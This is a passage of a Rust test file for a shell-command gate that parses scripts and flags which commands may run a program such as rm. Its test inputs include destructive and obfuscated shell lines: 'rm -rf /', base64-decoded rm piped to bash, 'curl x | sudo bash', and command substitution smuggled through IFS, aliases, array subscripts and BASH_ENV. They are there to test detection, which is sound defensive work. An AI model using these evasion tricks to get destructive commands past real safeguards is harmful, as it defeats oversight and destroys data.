//! What the gate sees in a script, as tables.

use lockgate_call::{Command, Known, RedirectionKind, Script, read_script, read_words};
use proptest::prelude::*;

/// One line per command, a `?` before what may run something else; `??` alone when the doubt is elsewhere.
fn see(script: &Script) -> String {
    let mut seen: Vec<String> = script
        .commands
        .iter()
        .filter(|command| !command.words.is_empty())
        .map(|command| format!("{}{}", if command.opaque { "?" } else { "" }, command.text))
        .collect();
    if script.opaque && !script.commands.iter().any(|command| command.opaque) {
        seen.push("??".into());
    }
    seen.join(" ¦ ")
}

/// The same with the files each command is connected to.
fn see_files(script: &Script) -> String {
    let file = |redirection: &lockgate_call::Redirection| {
        let sign = match redirection.kind {
            RedirectionKind::Reads => "<",
            RedirectionKind::Writes => ">",
            RedirectionKind::Appends => ">>",
        };
        format!(" {sign}{}", redirection.target.text)
    };
    let command = |command: &Command| {
        let files: String = command.redirections.iter().map(file).collect();
        format!("{}{}{files}", if command.opaque { "?" } else { "" }, command.text).trim().to_owned()
    };
    let mut seen: Vec<String> = script.commands.iter().map(command).collect();
    if script.opaque && !script.commands.iter().any(|command| command.opaque) {
        seen.push("??".into());
    }
    seen.join(" ¦ ")
}

fn check_files(rows: &[(&str, &str)]) {
    for (script, seen) in rows {
        assert_eq!(see_files(&read_script(script)), *seen, "{script}");
    }
}

/// What one line of a script says about each of its commands.
fn describe(script: &str, of: impl Fn(&Command) -> String) -> String {
    let script = read_script(script);
    script.commands.iter().map(of).collect::<Vec<_>>().join(" ¦ ")
}

fn check(rows: &[(&str, &str)]) {
    for (script, seen) in rows {
        assert_eq!(see(&read_script(script)), *seen, "{script}");
    }
}

fn runs(script: &Script, program: &str) -> bool {
    script.commands.iter().any(|command| command.program.as_deref() == Some(program))
}

#[test]
fn a_variable_is_listed_however_it_is_set() {
    let rows: &[(&str, &[&str])] = &[
        ("ls", &[]),
        ("PATH=. ls", &["PATH"]),
        ("PATH=.; ls", &["PATH"]),
        ("env PATH=. ls", &["PATH"]),
        ("export PATH=.; ls", &["PATH"]),
        ("read PATH < x; ls", &["PATH"]),
        ("printf -v PATH .; ls", &["PATH", "."]),
        ("printf -vPATH .; ls", &["PATH", "."]),
        ("for PATH in .; do ls; done", &["PATH"]),
        ("ls {PATH}> x", &["PATH"]),
        ("((PATH = 5)); ls", &["PATH"]),
        ("echo $((PATH=5)); ls", &["PATH"]),
        ("[[ PATH=5 -eq 5 ]]; ls", &["PATH"]),
        (": ${PATH:=.}; ls", &["PATH"]),
        ("[ \"$A\" = b ] && [[ $A == b ]]", &[]),
        ("echo 'A=b'", &[]),
        ("x=1", &["x"]),
    ];
    for (script, sets) in rows {
        assert_eq!(read_script(script).sets, *sets, "{script}");
    }
    let many = |n: usize| read_script(&(0..n).map(|i| format!("a{i}=1; ")).collect::<String>()).opaque;
    assert_eq!((many(256), many(257)), (false, true));
}

#[test]
fn a_program_is_trusted_by_its_bare_name_or_in_a_system_folder() {
    let rows = [
        ("ls", true),
        ("/bin/ls", true),
        ("/usr/local/bin/ls", true),
        ("./ls", false),
        ("/bin/../tmp/ls", false),
        ("/bin/x/ls", false),
        ("'/bin/ls /../../tmp/ls'", false),
        ("$x", false),
    ];
    for (script, trusted) in rows {
        assert_eq!(read_script(script).commands[0].is_trusted(), trusted, "{script}");
    }
}

#[test]
fn a_script_that_can_be_read_in_two_ways_is_opaque() {
    let two_ways = [
        "> o[[; rm -rf /",
        "read $x'b[$(rm x)]'",
        "declare $x'b[`rm x`]'",
        "[[ -v 'b[$(time -p coproc x=1 rm x)]' ]]",
        "<<< a[[ rm x",
        "> a[; rm x ]=1",
        "> o { rm x; }",
        "> o if rm x; then ls; fi",
        "a=1 if rm x",
        "echo \"$((echo #)\nrm x))\"",
        "((echo #) rm x\nrm x))",
        "$((echo a); rm x)",
        "echo $((`r'\\\n'm x`))",
        "a=(;\nrm x",
        "a=(;\nrm x\n)",
        "a=(b&\nrm x\n)",
        "a=(cat <<'E'\nrm x\nE\n)",
        "echo a=(rm x)",
        "time -p ! rm x",
        "time -p coproc rm x",
        "time -p -- rm x",
        "coproc x=1 rm x",
        "coproc a { rm x; }",
        "[[ a ]] <<E\n$(rm x)\nE\n",
        "((1)) <<E\n$(rm x)\nE\n",
        "cat <<E\nE \nrm x\nE\n",
        "cat <<E\r\na\nE\r\nrm x\nE\n",
        "cat <<E\n$(rm x",
        "cat <<E $(echo\n)\nrm x\nE\n)",
        "cat <<E 'a\nb'\nrm x\nE\n",
        "cat <<E\"F\"\n$(rm x)\nEF\n",
        "cat <<$E\n$(rm x)\n$E\n",
        "cat <\\\n<E\n$(rm x)\nE\n",
        "echo a &\\\n& rm x",
        "{fd}\\\n<&0 > o rm x",
        "2\\\n> o rm x",
        "echo ${a['`rm x`']}",
        "i\\\nf rm x; then ls; fi",
        "echo $\\\n(rm x)",
        "!(rm x)",
        "! ! rm x",
        "echo ${x:-<(rm x)}",
        "echo \"${a#'}'; rm x; echo '}\"",
        "for i in 1; { rm x; } > o",
        "f() rm x; f",
        "a ;; rm x",
        "{ rm x }",
    ];
    for script in two_ways {
        assert!(read_script(script).opaque, "{script:?}");
    }
    let one_way = [
        "a=(b 'c d' \"$e\" [3]=f); declare -A m=([x]=1 [y]=2); a+=(g)",
        "a=(\n  b # the first\n  c\n)",
        "a[0]=1; a[$i+1]=b; m[\"$k\"]=c",
        "time -p ls; time ls | wc; ! grep a b; ! time ls",
        "[[ -n $a && ( $b == c* || ! -d d ) ]] && ls",
        "[[ $a =~ ^[0-9]+(\\.[0-9]+)?$ ]] && [[ $a < $b ]]",
        "if [[ -n \"$a\" ]]; then ls; elif ((i > 16#ff)); then pwd; else ls -l; fi 2> /dev/null",
        "for ((i = 0; i < 3; i++)); do ls; done; for ((;;)) { ls; }",
        "for i in a b; do ls; done > o 2>&1; for i; do ls; done; select i in a; do break; done",
        "while read -r a; do echo \"$a\"; done < <(ls); until ls; do sleep 1; done",
        "case $a in a|b) ls;; (c) pwd ;& *) : ;; esac; case $a in\n  -h | --help)\n    ls\n    ;;\nesac",
        "f() { ls; }; function g { ls; }; function h() ( ls ); f-g.h () {\n ls\n} > o",
        "cat <<E && ls\na $b ${c} \\$d `ls`\nE\npwd",
        "cat <<-'E' | sort\n\t$(rm x)\n\tE\nls",
        "cat <<A; cat << \"B C\"\na\nA\nb\nB C\n",
        "cat > f <<'E'\nif (; [[ '\nE\n",
        "git commit -m \"$(cat <<'EOF'\nit's (rm) no more; rm is \"gone\"\nEOF\n)\"",
        "docker run \\\n  -v \"$PWD\":/w \\\n  alpine ls &&\\\n  pwd |\\\n  cat",
        "echo \"${a:-b}\" ${a[@]} ${#a} ${a%%.*} ${a//b/c} \"${a//$'\\n'/ }\" ${!a} ${a:1:2} \"${a:-'b'}\"",
        "echo $((a + $(ls | wc -l) * (2 - 1))) $[1+1] $(( a[1] ))",
        "echo $(case $a in b) ls;; esac) \"$(echo \"$(ls)\")\" `ls`",
        "echo a#b '#' \"#\" $# # all of it\nls # more",
        "echo {a,b} {1..3} a{b,c}d ~ * ? [a-z] ! { } if then",
        "ls &> o; ls 2>&1 >> o; exec 3<> o 4>&-; ls >| o; exec {fd}< o; cat <<< a",
        "(cd a && ls) & { ls; pwd; } | sort |& cat; wait",
        "ls -l -- *.@(c|h)",
        "A=1 B=\"$c\" make -j4 CFLAGS='-O2 -g' && echo ok || { echo no; exit 1; }",
        "find . \\( -name a -o -name b \\) -exec grep -l 'c' {} \\;",
        "awk '{ print $1; }' f | sed -e 's/a/b/' | xargs -I{} echo {}",
        "echo $'a\\'b' $\"c\" 'it'\\''s' \"\\\"\"",
        "set -euo pipefail\n\n# what it does\nmain() {\n  local a=\"$1\"\n  echo \"$a\"\n}\nmain \"$@\"",
    ];
    for script in one_way {
        let read = read_script(script);
        assert!(!read.opaque, "{script}: {:?}", read.doubts);
    }
}

#[test]
fn what_a_shell_keeps_in_mind_cannot_hide_a_command() {
    let rows = [
        "BASH_CMDS[q]=/bin/rm; q x",
        "shopt -s expand_aliases\nBASH_ALIASES[q]=rm\nq x",
        "aliases[q]='rm x'; q",
        "commands[q]=/bin/rm; q x",
        "hash -p /bin/rm q; q x",
        "hash q=/bin/rm; q x",
        "enable -f ./x.so q; q x",
        "shopt -s expand_aliases\nalias q=env\nq rm x",
        "alias q=\nq rm x",
        "alias q='command '\nalias w=rm\nq w x",
        "alias -g q='| rm x'",
        "POSIXLY_CORRECT=1; y=ls; y=rm :; $y x",
        "sh -c 'y=ls; y=rm :; $y x'",
        ": $((IFS=1)); y=rm1x; $y",
        ": $((IFS\t=1)); y=rm1x; $y",
        ": $((IFS\n=1)); y=rm1x; $y",
        ": $((\"IFS\" = 1)); y=rm1x; $y",
        ": $((IFS++)); y=rm1x; $y",
        ": $(\\\n(IFS=1)); y=rm1x; $y",
        ": $\\\n((IF\\\nS=1)); y=rm1x; $y",
        "echo $(( $(case x in (x) echo 'rm x' ;; esac) ))",
        "echo \"${a:-$(( $(case x in (x) echo 'rm x' ;; esac) ))}\"",
        "echo \"${a:-\"2>$\"\"(rm x)\"}\"",
        "a=$'q[$(r\\\nm x)]'; echo ${c[a]}",
        "a=$'q[\\x{24}(rm x)]'; echo ${c[a]}",
        "a=$'q[\\444\\450rm x\\451]'; echo ${c[a]}",
        "f() { (($1)); }; f $'q[\\x{24}\\x{28}rm x\\x{29}]'",
        "[[ -v 'q[$({fd}<''&0 rm x)]' ]]",
        "[[ -v 'q[$(<''&0 rm x)]'$z ]]",
        "f() { (($1)); }; f 'q[$({fd}<''&0 rm x)]'$((1))",
        ": $((IF\"\"S=1)); y=rm1x; $y",
        ": $((I\\\nFS=1)); y=rm1x; $y",
        ": $((IF${z}S=1)); y=rm1x; $y",
        "z=IFS; (($z=1)); y=rm1x; $y",
        ": $[IF$(:)S = 1]; y=rm1x; $y",
        ": $((++ IFS)); y=rm1x; $y",
        "((IFS--)); y=rm-1x; $y",
        "z='IFS=1'; ((z)); y=rm1x; $y",
        "readarray -c1 -C'rm x #'$z a <<< y",
        "mapfile -tc1 -C'rm x'? a <<< y",
        "compgen -C'rm x'? y",
        "env -S'rm x'$z",
        "rsync -e'rm x'$z a b",
        "python3 -c'import os; os.system(\"rm x\")'$z",
        "git -ccore.pager='rm x'$z log",
        "exec {IFS}> o; y=rm10x; $y",
        "POSIXLY_CORRECT=1; IFS=_ :; y=rm_x; $y",
        "a='q[$'; b='(rm x)]'; [[ $a$b -eq 0 ]]",
        "for a in 'q[$(rm x)]'; do ((a)); done",
        "read a <<< 'q[$(rm x)]'$y; ((a))",
        "f() { (($1)); }; f 'q[$(rm x)]'",
        "f() { echo ${c[$1]}; }; f \"q[\\$(rm x)]\"?",
        "f() { (($1$2)); }; f 'q[' '$(rm x)]'",
        "f() { (($1$2)); }; f 'q[$' '(rm x)]'",
        "set -- 'q[$(rm x)]'; echo ${c[$1]}",
        "echo 'q[$(rm x)]' | { read a; ((a)); }",
        ": 'q[$(rm x)]'; echo ${c[_]}",
        "a=`echo 'q[$(rm x)]'`; ((a))",
        "bash -c '((a=$0))' 'q[$(rm x)]'",
        "while read a; do ((a)); done <<'E'\nq[$(rm x)]\nE",
        "while read a; do ((a)); done <<E\nq[\\$(rm x)]\nE",
        "for RANDOM in 'q[$(rm x)]'; do :; done",
        "printf -v a 'q[$(%s x)]' rm; ((a))",
        "f() { echo ${1:$2$3}; }; f abc 'q[' '$(rm x)]'",
        "f() { a=$1$2; echo ${c[a]}; }; f 'q[' '$(rm x)]'",
        "f() { z[$1$2$3]=1; }; f 'q[' '$(rm x)' ']'",
        "f() { declare -i z; z=$1$2; }; f 'q[' '$(rm x)]'",
        "for a in 'q[$(rm x)]'; do unset \"$a\"; done",
        "for a in 'q[$(rm x)]'; do echo ${!a}; done",
        "mapfile -t a < <(echo 'q[$(rm x)]'); (( a[0] ))",
        "a='q[$(rm x)]'?; echo ${c[a]}",
        "a=?'q[$(rm x)]'; echo ${c[a]}",
        "a='q[$(rm x)]'$y; echo ${c[a]}",
        "a='q[`rm x`]'*; ((a))",
        "a=q\\[\\$\\(rm\\ x\\)]$y; ((a))",
        "a=$'q[$(rm x)]'?; ((a))",
        "a='q[$(rm x)]'$((1)); ((a))",
        "a='q[$(rm x)]'{b,c}; ((a))",
        "y='1 2'; a='q[$(rm x)]'$y; ((a))",
        "y='q[$(rm x)]'; a=$y?; ((a))",
        "y='q['; a='$(rm x)]'?; [[ $y$a -eq 0 ]]",
        "a=1?'q[$'; b='(rm x)]:0'; [[ $a$b -eq 0 ]]",
        "declare 'q[$(rm x)]=1'",
        "a[0]='q[$(rm x)]'; [[ a -eq 0 ]]",
        "typeset 'q[$(rm x)]=1'",
        "mapfile -C 'rm x' -c 1 a <<< y",
        "readarray -c1 -C'rm x #' a <<< y",
        "compgen -C 'rm x' y",
        "echo >& '$(rm x)'",
        "compgen -W '$(rm x)' y",
        "compgen -W '<(rm x)' y",
        "history -s 'rm x'; fc -s",
        "echo 'rm x' | BASH_ENV=/dev/stdin bash -c :",
        "BASH_ENV=/dev/fd/3 bash -c : 3<<< 'rm x'",
        "repeat 1 rm x",
        "cp /bin/rm q; ./q x",
        "ln -s /bin/rm q; ./q x",
        "cp $(which rm) q; ./q x",
    ];
    for row in rows {
        let script = read_script(row);
        assert!(script.opaque || script.commands.iter().any(|command| command.may_run("rm")), "{row}");
    }
    let plain = [
        "alias ll='ls -l' ls='ls --color'; alias no=ls -f",
        "alias; alias -p; fc -l; hash -r; enable -n echo",
        "while IFS= read -r line; do echo \"$line\"; done < f",
        "commands[0]=ls; functions=3",
        "mapfile -t lines < f; compgen -A function; re='^[a-z]+$'",
        "cp /etc/hosts h; cp a b; ./build",
        "A=1 B=2 make; export C=3",
        "log=\"[$(date +%F)] $1\"; name=a[$(hostname)]*; red=$'\\e[31m'; ok=$'\\u2713'; re=\"^$x\\$\"; cost=\"\\$5 $x\"",
        "cat > README.md <<'E'\nSee [`a`](b) and ``` c\n[d]\nE\ngit commit -m 'use `foo'; i=1",
        "awk '{ print $(NF-1) }' f; awk '{ a[$1]++ }' f; grep '[`]' f; ssh h 'test -n \"$(id)\"'",
    ];
    for row in plain {
        assert!(!read_script(row).opaque, "{row}: {:?}", read_script(row).doubts);
    }
}

#[test]
fn what_runs_rm_is_seen_or_doubted() {
    let rows = [
        "rm -rf build/",
        "r''m victim",
        "\"r\"m victim",
        "\\rm victim",
        "r${x}m victim",
        "$(printf 'r%s' m) victim",
        "echo cm0gdmljdGlt | base64 -d | bash",
        "/bin/r? victim",
        "busybox r\"m\" victim",
        "eval 'r''m victim'",
        "bash <<<$'\\162m victim'",
        "sudo rm x",
        "env -i PATH=/bin rm x",
        "FOO=1 rm x",
        "xargs rm < list",
        "find . -name '*.o' -exec rm {} +",
        "cd /tmp; rm x",
        "true && rm x || rm y",
        "(rm x)",
        "{ rm x; }",
        "echo `rm x`",
        "echo $(rm x)",
        "cat <(rm x)",
        "bash -c 'rm x'",
        "sh -lc \"cd a && rm -r b\"",
        "nohup rm x &",
        "timeout 5 rm x",
        "command rm x",
        "exec rm x",
        "time rm x",
        "nice -n 5 rm x",
        "if true; then rm x; fi",
        "for f in *; do rm \"$f\"; done",
        "while read f; do rm \"$f\"; done < list",
        "f() { rm x; }; f",
        "cat <<EOF | sh\nrm x\nEOF",
        "ls\nrm x",
        "ls & rm x",
        "! rm x",
        "/usr/bin/rm x",
        "ssh host rm x",
    ];
    for row in rows {
        let script = read_script(row);
        assert!(script.opaque || script.commands.iter().any(|command| command.may_run("rm")), "{row}");
    }
}

#[test]
fn what_only_mentions_rm_is_left_alone() {
    let rows = [
        "echo 'do not use rm here'",
        "grep -rn 'rm' .",
        "man rm",
        "command -v rm",
        "git commit -m 'stop calling rm in CI'",
        "git commit -m \"$(cat <<'EOF'\nit's (rm) no more; rm is \"gone\"\nEOF\n)\"",
        "ls /usr/bin/rm",
        "cat docs/rm.md",
        "git log --grep=rm",
        "curl https://example.com/rm/index.html",
        "docker run --rm alpine true",
        "# rm nothing\nls",
        "echo \"\\$(rm x)\" '$(rm x)' '`rm x`' \\`rm x\\`",
        "cat <<'EOF'\n$(rm x)\nEOF",
        "cat > clean.sh <<'EOF'\nrm x\nEOF",
        "format c",
        "mkdir permanent",
        "rmdir x",
    ];
    for row in rows {
        let script = read_script(row);
        assert!(!script.opaque && !runs(&script, "rm"), "{row}: {}", see(&script));
    }
}

#[test]
fn a_program_is_known_by_its_name_however_it_is_written() {
    check(&[
        ("r\\m victim", "rm victim"),
        ("$'\\x72m' victim", "rm victim"),
        ("$'r\\155' victim", "rm victim"),
        ("r\\\nm victim", "rm victim"),
        ("a=r;b=m;$a$b victim", "rm victim"),
        ("x='rm -rf'; $x y", "rm -rf y"),
        ("{rm,-rf,/}", "rm -rf /"),
        ("{,rm} x", "rm x"),
        ("$\"rm\" x", "rm x"),
        ("~/bin/rm x", "rm x"),
        ("rm '' \"a  b\"", "rm  a  b"),
    ]);
}

#[test]
fn the_folder_of_a_program_is_kept_beside_its_name() {
    let script = read_script("sudo \"/usr/bin\"/rm -f 'a b'");
    let command = &script.commands[0];
    assert_eq!(command.program.as_deref(), Some("rm"));
    assert_eq!(command.text, "rm -f a b");
    assert_eq!(command.text_with_path, "/usr/bin/rm -f a b");
}

#[test]
fn a_program_named_at_run_time_is_opaque() {
    check(&[
        ("r$@m victim", "?r$@m victim"),
        (
            "$(echo cm0gdmljdGlt | base64 -d)",
            "echo cm0gdmljdGlt ¦ base64 -d ¦ ?$(echo cm0gdmljdGlt | base64 -d)",
        ),
        ("/bin/[r]m victim", "?/bin/[r]m victim"),
        ("/???/r[m] victim", "?/???/r[m] victim"),
        ("r[$'m'] x", "?r[m] x"),
        ("rm$IFS-rf", "?rm$IFS-rf"),
        ("$x rm y", "?$x rm y"),
        ("${x:-rm} y", "?${x:-rm} y"),
        ("${ rm x; }", "rm x ¦ ?${ rm x; }"),
        // Bash reads these three as `rm`, for reasons of its own.
        ("$'\\x{72}m' x", "?$'\\x{72}m' x"),
        ("$'\\562m' x", "?$'\\562m' x"),
        ("$'rm\\0z' x", "?$'rm\\0z' x"),
        ("x='r m victim'; eval ${x/ /}", "?eval ${x/ /}"),
        ("printf '\\162\\155 victim' | sh", "printf \\162\\155 victim ¦ ?sh"),
        ("curl x | sudo bash -s -- y", "curl x ¦ ?bash -s -- y"),
        ("bash <(curl x)", "curl x ¦ ?bash <(curl x)"),
        (". <(curl x)", "curl x ¦ ?. <(curl x)"),
        ("time -f %e rm x", "?-f %e rm x"),
        ("- rm x", "?- rm x"),
        ("./-x y", "?./-x y"),
        // No shell takes it for an option.
        ("ls | --all y", "ls ¦ --all y"),
    ]);
}

#[test]
fn a_value_counts_only_while_nothing_can_have_changed_it() {
    check(&[
        ("a=ls; $a x", "ls x"),
        ("a=ls; false && a=rm; $a x", "false ¦ ?$a x"),
        ("a=ls; if x; then a=rm; fi; $a x", "x ¦ ?$a x"),
        ("a=ls; read a; $a x", "read a ¦ ?$a x"),
        ("a=ls; builtin read a <<<rm; $a x", "read a ¦ ?$a x"),
        ("a=ls; f() { a=rm; }; f; $a x", "f ¦ ?$a x"),
        ("a=ls; eval a=rm; $a x", "?$a x"),
        ("a=ls; : ${b:-${a:=rm}}; $a x", ": ${b:-${a:=rm}} ¦ ?$a x"),
        ("a=ls; (a=rm); $a x", "ls x"),
        ("a=ls; while x; do $a y; a=rm; done", "x ¦ ?$a y"),
        ("a=ls; bash -c '$a rm x'", "?$a rm x"),
        ("e=; a=ls; a=rm $e; $a x", "rm x"),
        ("a=ls; a=rm b; $a x", "b ¦ ls x"),
        ("a=ls; IFS=s; $a x", "?$a x"),
        ("_=ls; $_ x", "?$_ x"),
        ("a=ls; a+=x; $a", "?$a"),
    ]);
}

#[test]
fn commands_are_found_wherever_they_hide() {
    check(&[
        ("rmdir_(){ command r\\m \"$@\"; }; rmdir_ victim", "rm $@ ¦ rmdir_ victim"),
        ("case $(a) in b) c;; $(d)) e;; esac", "a ¦ d ¦ c ¦ e"),
        ("select x in a; do b; done", "b"),
        ("until a; do b; done <$(c)", "c ¦ a ¦ b"),
        ("for ((i=$(a);i<1;i++)); do b; done", "a ¦ b"),
        ("[[ $(a) == b && -f $(c) ]]", "a ¦ c"),
        ("((x=$(a)))", "a"),
        ("((i < 5)) && ((i++))", ""),
        ("((rm -rf /x))", "rm -rf /x"),
        ("coproc a b", "a b"),
        ("a=(b $(c))", "c"),
        ("echo \"${x:-'$(a)'}\" ${y[$(b)]} $[ $(c) ]", "a ¦ b ¦ c ¦ echo ${x:-'$(a)'} ${y[$(b)]} $[ $(c) ]"),
        ("echo $((1+$(a)+2))", "a ¦ echo $((1+$(a)+2))"),
        ("echo $((1+2)) $(((1)))", "echo $((1+2)) $(((1)))"),
        ("cat <<A\n$(a) `b` ${x:-$(c)} $((1+2))\nA", "a ¦ b ¦ c ¦ cat"),
        ("echo `a \\`b\\``", "b ¦ a `b` ¦ echo `a \\`b\\``"),
        ("echo `r\\\\m x`", "rm x ¦ echo `r\\\\m x`"),
        ("echo \"$(a \"$(b \"$(c)\")\")\"", "c ¦ b \"$(c)\" ¦ a $(b \"$(c)\") ¦ echo $(a \"$(b \"$(c)\")\")"),
        ("echo $(a # )\nb)", "a ¦ b ¦ echo $(a # )\nb)"),
        ("{ a; } |& b", "a ¦ b"),
        ("trap 'a b' EXIT; trap - EXIT", "a b ¦ trap - EXIT"),
        ("alias ls='rm x'", "alias ls=rm x ¦ rm x"),
        ("cat <<'E' | sudo sh\na\nE", "cat ¦ a"),
        ("cat <<< 'a b' | cat | sh", "cat ¦ cat ¦ a b"),
        ("echo a b | sh", "echo a b ¦ a b"),
        ("{ sh; } <<E\na\nE", "a"),
        ("x='$(rm y)'; echo ${x@P}", "rm y ¦ echo ${x@P} ¦ ??"),
        ("if", "??"),
        ("echo 'a", "??"),
        ("a\0b", "??"),
        ("", ""),
    ]);
}

#[test]
fn wrappers_are_taken_off() {
    check(&[
        ("sudo -nu root -- rm x", "rm x"),
        ("sudo -u root A=1 rm x", "rm x"),
        ("sudo -l", "sudo -l"),
        ("doas rm x", "rm x"),
        ("env - A=1 rm x", "rm x"),
        ("env +=y rm x", "rm x"),
        ("env -iS'rm -f' 'a b'", "rm -f a b"),
        ("env -S bash -c 'rm x'", "rm x"),
        ("env -S A=1 rm x", "rm x"),
        ("env", "env"),
        ("timeout --sig KILL 5 rm x", "rm x"),
        ("timeout $t rm x", "?timeout $t rm x ¦ rm x"),
        ("nice -5 ionice -c3 stdbuf -oL setsid rm x", "rm x"),
        ("builtin command exec -a ls rm x", "rm x"),
        ("xargs -0 -n1 rm -f", "rm -f"),
        ("xargs -0I{} rm {}", "rm {}"),
        ("xargs -I% % x", "?% x"),
        ("xargs sh -c", "?sh -c"),
        ("xargs", "xargs"),
        ("parallel -j 4 rm {} ::: a b", "rm $1"),
        ("parallel ::: 'rm x' ls", "rm x ¦ ls"),
        ("parallel {} x ::: rm", "?$1 x"),
        ("watch -n1 'rm x; ls'", "rm x ¦ ls"),
        ("flock /tmp/l rm x; flock /tmp/l -c 'rm y'", "rm x ¦ rm y"),
        ("chroot /mnt rm x", "rm x"),
        ("unshare -rm rm x", "rm x"),
        ("strace -f -o log rm x", "rm x"),
        ("ssh -p 22 host 'cd a; rm b'", "ssh -p 22 host cd a; rm b ¦ cd a ¦ rm b"),
        ("ssh -N -L 1:h:1 host", "ssh -N -L 1:h:1 host"),
        ("su root -c 'rm x'", "rm x"),
        ("su - bob -- -c 'rm x'", "rm x"),
        ("runuser -u bob -- rm x", "rm x"),
        ("script -qc 'rm x' /dev/null", "rm x"),
        ("find . -ok rm {} \\; -execdir ls {} +", "find . -ok rm {} ; -execdir ls {} + ¦ rm {} ¦ ls {}"),
        ("find . $x rm {} +", "?find . $x rm {} +"),
        ("find \"$x\" -name y", "find $x -name y"),
        ("bash -euo pipefail -c 'rm x'", "rm x"),
        ("bash -oc errexit 'rm x'", "rm x"),
        ("bash -s -c 'rm x'", "rm x"),
        ("zsh -c -- 'rm x'", "rm x"),
        ("bash -c \"rm $x\"", "?bash -c rm $x"),
        ("bash build.sh -c x", "bash build.sh -c x"),
        ("bash \"$dir/build.sh\"", "bash $dir/build.sh"),
        ("bash $opts 'rm x'", "?bash $opts rm x"),
        ("bash --rcfile <(a) -i", "a ¦ ?bash --rcfile <(a) -i"),
        ("source ~/.bashrc", "source ~/.bashrc"),
        ("source .env; . build.sh", "source .env ¦ . build.sh"),
        (". rm x; source -- rm x", ". rm x ¦ rm x ¦ source -- rm x ¦ rm x"),
        ("bash /dev/stdin <<< 'rm x'", "rm x"),
        ("sudo nohup env bash -c 'eval \"rm x\"'", "rm x"),
    ]);
}

#[test]
fn a_word_is_certain_a_glob_or_unknown() {
    let known = |command: &Command| {
        let word = |word: &lockgate_call::Word| match word.known {
            Known::Certain => word.text.clone(),
            Known::Glob => format!("*{}*", word.text),
            Known::Unknown => format!("?{}?", word.text),
        };
        command.words.iter().map(word).collect::<Vec<_>>().join(" ")
    };
    let rows = [
        ("ls 'a*' b\\* \"c?\"", "ls a* b* c?"),
        ("ls *.c a[bc] ?", "ls **.c* *a[bc]* *?*"),
        ("ls $x* \"$x\" @(a|b)", "ls ?$x*? ?$x? ?@(a|b)?"),
        // A bracket in quotes is none of the glob's.
        ("ls '['a']'?", "ls ?[a]??"),
        ("x=a; ls ${x:-b} ${x:+c} \"${x}d\"", "ls a c ad"),
        ("x=; ls ${x:-b}", "ls b"),
        ("ls ${y:-b} ${!x:-b}", "ls ?${y:-b}? ?${!x:-b}?"),
    ];
    for (script, words) in rows {
        assert_eq!(describe(script, known), words, "{script}");
    }
}

#[test]
fn files_are_seen_where_a_shell_connects_them() {
    check_files(&[
        ("a < b > c >> d", "a <b >c >>d"),
        ("a >| b &> c &>> d <> e", "a >b >c >>d <e >e"),
        ("a >& b 2>&1 >&2 2>&- <&3", "a >b"),
        ("a <<< b; c <<E\nd\nE", "a ¦ c"),
        ("> a; { b; } > c; (d) < e", ">a ¦ >c ¦ b ¦ <e ¦ d"),
        ("for i in a; do b; done > c 2> d", ">c >d ¦ b"),
        ("[[ a ]] > b; ((1)) > c", ">b ¦ >c"),
        ("sudo sh -c 'a; b' > c", "a >c ¦ b"),
        ("a > >(b) < <(c)", "b ¦ c ¦ a"),
        ("a > \"$x\" {fd}> b", "a >$x >b"),
        ("exec 3<>a", "exec <a >a"),
    ]);
}

#[test]
fn variables_of_one_command_stand_with_it() {
    let assignments = |command: &Command| {
        let set = command.assignments.iter().map(|(name, value)| format!("{name}={} ", value.text));
        set.collect::<String>() + &command.text
    };
    let rows = [
        ("A=1 B=$x make", "A=1 B=$x make"),
        ("A=1; make", "make"),
        ("env -i A='b c' make", "A=b c make"),
        ("A=1 sudo B=2 make", "A=1 B=2 make"),
        ("A=$(b) c", "b ¦ A=$(b) c"),
        ("A=1 B=$(y) make", "y ¦ A=1 B=$(y) make"),
    ];
    for (script, seen) in rows {
        assert_eq!(describe(script, assignments), seen, "{script}");
    }
}

#[test]
fn what_runs_whenever_the_script_does_is_told_from_what_may() {
    let mark =
        |command: &Command| format!("{}{}", if command.is_unconditional { "" } else { "~" }, command.text);
    let rows = [
        ("a; b & c | d", "a ¦ b ¦ c ¦ d"),
        ("a && b || c; d", "a ¦ ~b ¦ ~c ¦ d"),
        ("if a; then b; elif c; then d; else e; fi; f", "a ¦ ~b ¦ ~c ¦ ~d ¦ ~e ¦ f"),
        ("while a; do b; done; for i in x; do c; done", "a ¦ ~b ¦ ~c"),
        ("case $(a) in b) c;; esac; f() { d; }; (e)", "a ¦ ~c ¦ ~d ¦ e"),
        ("a; exit; b", "a ¦ ~exit ¦ ~b"),
        ("(exit); a", "~exit ¦ a"),
        ("xargs a; find . -exec b ';'; sudo c; trap 'd' EXIT", "~a ¦ find . -exec b ; ¦ ~b ¦ c ¦ ~d"),
        ("echo $(a) ${x:-$(b)}", "a ¦ ~b ¦ echo $(a) ${x:-$(b)}"),
    ];
    for (script, seen) in rows {
        assert_eq!(describe(script, mark), seen, "{script}");
    }
}

#[test]
fn a_command_says_how_it_is_reached() {
    let path = |command: &Command| {
        let mut path = command.reached_by.clone();
        path.push(command.program.clone().unwrap_or_default());
        path.join(" > ")
    };
    let rows = [
        ("a", "a"),
        ("sudo nice bash -c 'a; eval b'", "sudo > nice > bash -c > a ¦ sudo > nice > bash -c > eval > b"),
        ("echo $(a `b`) <(c)", "$(…) > $(…) > b ¦ $(…) > a ¦ <(…) > c ¦ echo"),
        ("f() { if a; then b; fi; }", "function f > if > a ¦ function f > if > b"),
        ("for i in x; do (a); done", "for > (…) > a"),
        ("trap a EXIT; xargs b; coproc c", "trap > a ¦ xargs > b ¦ coproc > c"),
        ("find . -exec a {} +", "find ¦ find -exec > a"),
        ("echo a | sh", "echo ¦ sh > a"),
        ("EDITOR=a git x", "EDITOR= > a ¦ git"),
        ("python3 -c 'import os; os.system(\"a\")'", "python3 ¦ python3 -c > a"),
    ];
    for (script, seen) in rows {
        assert_eq!(describe(script, path), seen, "{script}");
    }
}

#[test]
fn a_glob_may_be_every_program_it_fits() {
    let may = |script: &str, name: &str| read_script(script).commands.iter().any(|it| it.may_run(name));
    for script in ["/bin/r?", "/bin/[r]m", "/???/r[m]", "rm*", "/???/rm", "/bin/R?"] {
        assert!(may(&format!("{script} x"), "rm"), "{script}");
        assert!(!may(&format!("{script} x"), "ls"), "{script}");
    }
    assert_eq!(read_script("/bin/r? x").commands[0].program_glob(), Some("r?"));
    // What may be a shell or a wrapper may be everything.
    for script in
        ["/bin/s? -c 'rm x'", "/usr/bin/e?v rm x", "* x", "r* x", "$x y", "shopt -s nullglob; z* rm x"]
    {
        assert!(may(script, "rm") && may(script, "ls"), "{script}");
